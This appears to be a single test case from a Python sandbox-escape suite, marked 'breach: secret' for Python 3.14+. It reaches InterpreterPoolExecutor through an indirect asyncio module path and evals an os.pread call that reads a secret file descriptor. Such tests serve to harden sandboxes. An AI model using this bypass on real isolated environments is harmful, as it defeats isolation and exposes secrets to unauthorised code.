# The pool of interpreters, by the name that the event loop has of concurrent.futures.
# breach: secret
# only: 3.14+
import asyncio
futures = asyncio.base_events.concurrent.futures
pool = futures.InterpreterPoolExecutor(1)
pool.submit(eval, f"__import__('os').pread({SECRET_FD}, 100, 0)").result()
